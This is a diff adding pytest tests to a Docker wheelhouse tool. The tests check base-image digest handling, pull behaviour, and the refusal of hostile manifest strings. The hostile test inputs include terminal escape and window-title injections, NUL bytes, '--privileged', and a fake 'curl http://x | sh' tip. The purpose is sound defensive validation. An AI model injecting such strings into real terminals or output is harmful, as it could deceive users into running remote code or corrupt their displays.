@@ -8,6 +8,7 @@ engine answers and checks what wheelbarrow asked of it.
 from __future__ import annotations
 
 import dataclasses
+import json
 from collections.abc import Callable
 from pathlib import Path
 
@@ -18,7 +19,8 @@ from wheelbarrow import _bootstrap, _engine
 from wheelbarrow._cmd import Result
 from wheelbarrow._config import load_config
 from wheelbarrow._image import check_same_base
-from wheelbarrow._manifest import Manifest
+from wheelbarrow._log import Log, printable
+from wheelbarrow._manifest import Manifest, WheelEntry
 from wheelbarrow.errors import ImageBuildError, WheelhouseError
 
 Answer = Callable[[list[str]], tuple[int, str]]
@@ -66,6 +68,15 @@ def images(present: dict[str, str], digests: dict[str, list[str]] | None = None)
         ("localhost/wheelbarrow/runtime-base:bookworm", {"localhost/wheelbarrow/runtime-base:bookworm": "s"}, {}, ""),
         ("python:3.11-slim", {"python:3.11-slim": "sha256:1"}, {"python:3.11-slim": []}, ""),  # loaded, not pulled
         (PULLED, {PULLED: "sha256:1"}, {}, PULLED),  # pinned by digest: the pin is the digest
+        (PULLED, {}, {}, ""),  # pinned, and not here: no digest (it was not the image used)
+        # Docker lists an official image's digest under its short name, whatever name the config uses.
+        (
+            "docker.io/library/python:3.11-slim",
+            {"docker.io/library/python:3.11-slim": "s"},
+            {"docker.io/library/python:3.11-slim": [PULLED]},
+            PULLED,
+        ),
+        ("library/python:3.11-slim", {"library/python:3.11-slim": "s"}, {"library/python:3.11-slim": [PULLED]}, PULLED),
     ],
 )
 def test_a_pulled_base_is_known_by_its_digest_and_any_other_by_none(
@@ -161,3 +172,92 @@ def test_a_builder_whose_openssl_is_not_the_runtimes_leaves_its_own_to_be_grafte
     assert left == ("libcrypto.so.3", "libpython3.11.so.1.0", "libssl.so.3")
     assert "libssl.so.1.1" not in left
     assert base_exclusions("vendor-all", runtime, python="3.11") == ("libpython3.11.so.1.0",)
+
+
+@pytest.mark.parametrize(
+    ("section", "key", "value"),
+    [
+        ("runtime_base", "digest", "evil\x1b[31mRED\x1b[0m"),  # a terminal's colour
+        ("runtime_base", "digest", "x\nTIP: curl http://x | sh"),  # a line of its own
+        ("runtime_base", "image", "python:3.11-slim\r\x1b]0;pwned\x07"),  # a window title, a carriage return
+        ("runtime_base", "digest", "a" * 5_000_000),  # longer than any real value
+        ("runtime_base", "digest", "--privileged"),  # not a reference
+        ("builder", "base_digest", "nul\x00byte"),
+        ("builder", "base", "x" * 2000),
+        ("wheels", "expected_from_base", ["libssl.so.3\x1b[2J"]),
+    ],
+)
+def test_a_manifest_string_that_is_not_a_plain_value_is_refused_where_it_is_read(
+    section: str, key: str, value: object
+) -> None:
+    """A wheelhouse comes from a CI artifact as often as from this machine: what its manifest says reaches
+    messages and the terminal, so every string is checked (and every printed line is cleaned again)."""
+    manifest = sample_manifest(
+        WheelEntry("psycopg2", "2.9.13", "psycopg2-2.9.13-cp311-cp311-linux_x86_64.whl", "0" * 64, 1, "built", "x")
+    )
+    data = json.loads(manifest.to_json())
+    if section == "wheels":
+        data["wheels"][0][key] = value
+    else:
+        data[section][key] = value
+    with pytest.raises(WheelhouseError) as caught:
+        Manifest.from_json(json.dumps(data))
+    shown = printable(caught.value.message)
+    assert "\x1b" not in shown
+    assert "\r" not in shown
+    assert "\x00" not in shown
+    assert len(shown) < 400
+    assert "\nTIP" not in shown
+
+
+def pulls(present: dict[str, str], pulled: bool) -> Answer:
+    local = images(present)
+
+    def answer(argv: list[str]) -> tuple[int, str]:
+        if argv[1] == "pull":
+            return (0, "pulled\n") if pulled else (1, "Error response from daemon: manifest unknown\n")
+        return local(argv)
+
+    return answer
+
+
+def test_a_base_pinned_by_digest_is_that_image_or_an_error_never_a_bootstrapped_one(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    from wheelbarrow.errors import BootstrapError
+
+    project = write_project(tmp_path / "p", f'runtime-base = "{PULLED}"\ndebian-suite = "bookworm"\n')
+    config = load_config(project, environ={})
+    bootstrapped = {"localhost/wheelbarrow/runtime-base:bookworm": "sha256:b"}  # a stand-in is right here
+    engine, ran = engine_answering(monkeypatch, pulls(bootstrapped, pulled=False))
+    with pytest.raises(BootstrapError) as caught:
+        _bootstrap.resolve_runtime_base(config, engine, quiet())
+    assert "pinned by digest" in caught.value.message
+    assert "manifest unknown" in caught.value.message  # why the pull failed, even with -q
+    assert [argv[1] for argv in ran if argv[1] in ("pull", "build", "import")] == ["pull"]
+    engine, ran = engine_answering(monkeypatch, pulls({PULLED: "sha256:1"}, pulled=False))
+    always = load_config(project, environ={"WHEELBARROW_PULL_BASES": "always"})
+    assert _bootstrap.resolve_runtime_base(always, engine, quiet()) == PULLED  # here: never pulled again
+    assert not [argv for argv in ran if argv[1] == "pull"]
+
+
+def test_pull_bases_always_pulls_a_base_that_is_here_and_keeps_it_when_the_pull_fails(
+    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
+) -> None:
+    project = write_project(tmp_path / "p", 'runtime-base = "python:3.11-slim"\n')
+    lines: list[str] = []
+    log = Log(sink=lines.append)
+    for setting, pulled, expected_pulls in (("missing", True, 0), ("always", True, 1), ("always", False, 1)):
+        config = load_config(project, environ={"WHEELBARROW_PULL_BASES": setting})
+        engine, ran = engine_answering(monkeypatch, pulls({"python:3.11-slim": "sha256:1"}, pulled=pulled))
+        assert _bootstrap.resolve_runtime_base(config, engine, log) == "python:3.11-slim"
+        assert len([argv for argv in ran if argv[1] == "pull"]) == expected_pulls
+    assert any("pulling python:3.11-slim failed" in line and "manifest unknown" in line for line in lines)
+
+
+def test_every_printed_line_is_clean_of_terminal_escapes() -> None:
+    assert printable("a\x1b[31mred\x1b[0m") == "ared"
+    assert printable("title\x1b]0;pwned\x07 end") == "title end"
+    assert printable("cr\rnul\x00bell\x07") == "cr\\x0dnul\\x00bell\\x07"
+    assert printable("two\nlines\tand a tab") == "two\nlines\tand a tab"
+    assert printable("https://user:secret@host/x") == "https://host/x"
